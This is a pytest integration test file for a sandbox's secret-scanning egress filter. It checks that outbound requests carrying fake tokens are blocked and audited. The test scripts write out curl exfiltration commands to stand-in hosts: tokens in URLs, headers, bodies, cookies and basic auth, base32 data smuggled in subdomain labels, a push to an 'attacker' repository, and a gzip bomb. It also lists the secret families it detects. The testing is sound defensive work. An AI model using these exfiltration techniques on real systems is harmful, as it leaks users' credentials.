"""Secret scanning through a real bottle: secrets never reach the upstream, the audit says why."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.conftest import BottleEnv
from tests.integration.tls_upstream import TLSUpstream

pytestmark = pytest.mark.integration

# Built by concatenation so this file does not itself look like it holds a key.
GITHUB_TOKEN = "ghp_" + "R4nd0mT0k3nV4lu3F0rT3st1ngOnly0123ab"
AWS_KEY_ID = "AKIA" + "Q3EGRTJ7WXMPLZ5K"
PLANTED = "planted-" + "s3cr3t-v4lu3-9f8e7d6c5b4a"


@pytest.fixture
def tls_upstream(tmp_path: Path) -> Iterator[TLSUpstream]:
    server = TLSUpstream(tmp_path, "tls.test")
    yield server
    server.close()


@pytest.fixture
def dlp_env(bottle_env: BottleEnv, tls_upstream: TLSUpstream) -> BottleEnv:
    bottle_env.env["MY_SERVICE_TOKEN"] = PLANTED  # the user's own secret, on the host
    bottle_env.write_config(f"""
[egress]
allow = ["allowed.test", "tls.test", "*.wild.test"]
upstream_ca_file = "{tls_upstream.ca_file}"
[egress.resolve]
"allowed.test" = "127.0.0.1:{bottle_env.upstream.port}"
"tls.test" = "127.0.0.1:{tls_upstream.port}"
"a.wild.test" = "127.0.0.1:{bottle_env.upstream.port}"
""")
    return bottle_env


def _curl(be: BottleEnv, script: str, tmp_path: Path) -> list[str]:
    """Run curl commands in the bottle; return each one's HTTP status."""
    (be.workspace / "probe.sh").write_text(script)
    result = be.sh(f"sh {be.workspace}/probe.sh")
    return result.stdout.split()


@pytest.mark.parametrize("scheme", ["http://allowed.test", "https://tls.test"])
def test_secrets_in_url_header_and_body_are_blocked(
    dlp_env: BottleEnv, tls_upstream: TLSUpstream, scheme: str, tmp_path: Path
) -> None:
    w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
    codes = _curl(
        dlp_env,
        f"""
curl {w} "{scheme}/q?token={GITHUB_TOKEN}"
curl {w} -H "X-Debug: {AWS_KEY_ID}" {scheme}/h
curl {w} --data-binary "config={GITHUB_TOKEN}" {scheme}/b
curl {w} {scheme}/clean
""",
        tmp_path,
    )
    assert codes == ["403", "403", "403", "200"], codes
    received = tls_upstream.requests if scheme.startswith("https") else dlp_env.upstream.requests
    assert [r.path for r in received] == ["/clean"]
    events = [json.loads(line) for line in (dlp_env.state_dir() / "audit.jsonl").open()]
    rules = [e["rule"] for e in events if e["kind"] == "dlp"]
    assert any("github" in r for r in rules) and any("aws" in r for r in rules), rules
    text = (dlp_env.state_dir() / "audit.jsonl").read_text()
    assert GITHUB_TOKEN not in text and AWS_KEY_ID not in text


def test_planted_host_secret_is_blocked_in_every_encoding(
    dlp_env: BottleEnv, tmp_path: Path
) -> None:
    b64 = base64.b64encode(PLANTED.encode()).decode()
    hexed = PLANTED.encode().hex()
    w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
    codes = _curl(
        dlp_env,
        f"""
curl {w} --data-binary "v={PLANTED}" http://allowed.test/raw
curl {w} --data-binary "v={b64}" http://allowed.test/b64
curl {w} "http://allowed.test/hex/{hexed}"
""",
        tmp_path,
    )
    assert codes == ["403", "403", "403"], codes
    assert dlp_env.upstream.requests == []


def test_secret_split_across_chunks_and_inside_gzip_is_blocked(
    dlp_env: BottleEnv, tmp_path: Path
) -> None:
    body = ("x" * 70000 + GITHUB_TOKEN + "y" * 70000).encode()
    (dlp_env.workspace / "big.txt").write_bytes(body)
    import gzip

    (dlp_env.workspace / "body.gz").write_bytes(gzip.compress(body))
    (dlp_env.workspace / "bomb.gz").write_bytes(gzip.compress(b"\0" * (200 * 1024 * 1024)))
    ws = dlp_env.workspace
    w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 20"
    codes = _curl(
        dlp_env,
        f"""
curl {w} -H "Transfer-Encoding: chunked" --data-binary @{ws}/big.txt http://allowed.test/chunked
curl {w} -H "Content-Encoding: gzip" --data-binary @{ws}/body.gz http://allowed.test/gz
curl {w} -H "Content-Encoding: gzip" --data-binary @{ws}/bomb.gz http://allowed.test/bomb
""",
        tmp_path,
    )
    assert codes == ["403", "403", "413"], codes
    assert all(r.path not in ("/gz", "/bomb") for r in dlp_env.upstream.requests)
    for r in dlp_env.upstream.requests:  # an incomplete request may have started; never the key
        assert GITHUB_TOKEN.encode() not in r.body


def test_exfiltration_through_wildcard_host_labels_is_blocked(
    dlp_env: BottleEnv, tmp_path: Path
) -> None:
    label = base64.b32encode(b"the-database-password-is-hunter2!").decode().rstrip("=").lower()
    w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
    codes = _curl(
        dlp_env,
        f"""
curl {w} http://{label}.wild.test/
curl {w} http://a.wild.test/ok
""",
        tmp_path,
    )
    assert codes == ["403", "200"], codes


def test_log_only_mode_lets_it_through_but_records(dlp_env: BottleEnv, tmp_path: Path) -> None:
    dlp_env.config.write_text(dlp_env.config.read_text() + "\n[dlp]\nblock = false\n")
    codes = _curl(
        dlp_env,
        f"curl -s -o /dev/null -w '%{{http_code}}\\n' 'http://allowed.test/q?t={GITHUB_TOKEN}'\n",
        tmp_path,
    )
    assert codes == ["200"]
    events = [json.loads(line) for line in (dlp_env.state_dir() / "audit.jsonl").open()]
    assert [e["decision"] for e in events if e["kind"] == "dlp"] == ["log"]


FAMILIES = [
    "anthropic-api-key",
    "openai-api-key",
    "aws-access-key-id",
    "github-pat",
    "gitlab-pat",
    "slack-token",
    "slack-webhook",
    "stripe-secret-key",
    "google-api-key",
    "huggingface-token",
    "npm-token",
    "pypi-token",
    "pem-private-key",
    "jwt",
    "credit-card",
]


@pytest.mark.parametrize("scheme", ["http://allowed.test", "https://tls.test"])
def test_every_pattern_family_is_blocked_in_url_header_and_body(
    dlp_env: BottleEnv, tls_upstream: TLSUpstream, scheme: str, tmp_path: Path
) -> None:
    import random
    import urllib.parse

    from tests.unit.test_dlp import EXAMPLES

    rnd = random.Random(7)
    w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
    lines, expected, secrets = [], [], []
    for index, family in enumerate(FAMILIES):
        secret = EXAMPLES[family][0][0](rnd)
        secrets.append(secret)
        body = dlp_env.workspace / f"body-{index}.txt"
        body.write_text(f"data={secret}\n")
        lines.append(f"curl {w} --data-binary @{body} {scheme}/body-{index}")
        expected.append(f"{family} body 403")
        if "\n" not in secret:
            quoted = urllib.parse.quote(secret, safe="")
            header = dlp_env.workspace / f"header-{index}.txt"
            header.write_text(f"X-Data: {secret}\n")
            lines.append(f"curl {w} '{scheme}/url-{index}?v={quoted}'")
            lines.append(f"curl {w} -H @{header} {scheme}/header-{index}")
            expected += [f"{family} url 403", f"{family} header 403"]
    codes = _curl(dlp_env, "\n".join(lines) + "\n", tmp_path)
    got = [f"{e.rsplit(' ', 1)[0]} {c}" for e, c in zip(expected, codes, strict=True)]
    assert got == expected
    received = tls_upstream.requests if scheme.startswith("https") else dlp_env.upstream.requests
    assert received == []
    log = (dlp_env.state_dir() / "audit.jsonl").read_text()
    for secret in secrets:
        assert secret not in log


@pytest.mark.parametrize("scheme", ["http://allowed.test", "https://tls.test"])
def test_a_token_inside_basic_auth_cookie_or_userinfo_is_refused(
    dlp_env: BottleEnv, tls_upstream: TLSUpstream, scheme: str, tmp_path: Path
) -> None:
    """Issue 18 row 3: `Basic base64("x-access-token:ghp_…")` to an allowed host is how a
    `git push` of the workspace to an attacker's repository authenticates."""
    host = scheme.split("://")[1]
    w = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10"
    basic = base64.b64encode(f"{GITHUB_TOKEN}:x-oauth-basic".encode()).decode()
    codes = _curl(
        dlp_env,
        f"""
curl {w} -u "x-access-token:{GITHUB_TOKEN}" {scheme}/attacker/loot.git/info/refs
curl {w} "{scheme.split("://")[0]}://x-access-token:{GITHUB_TOKEN}@{host}/userinfo"
curl {w} -H "authorization: basic {basic}" {scheme}/lowercase-token-as-user
curl {w} -H "Cookie: theme=dark; session={GITHUB_TOKEN}" {scheme}/cookie
curl {w} -u "alice:correct-horse" {scheme}/clean
""",
        tmp_path,
    )
    assert codes == ["403", "403", "403", "403", "200"], codes
    received = tls_upstream.requests if scheme.startswith("https") else dlp_env.upstream.requests
    assert [r.path for r in received] == ["/clean"]
    events = [json.loads(line) for line in (dlp_env.state_dir() / "audit.jsonl").open()]
    denied = [e for e in events if e["kind"] == "dlp" and e["decision"] == "deny"]
    assert len({e["path"] for e in denied}) == 4, denied
    assert GITHUB_TOKEN not in (dlp_env.state_dir() / "audit.jsonl").read_text()
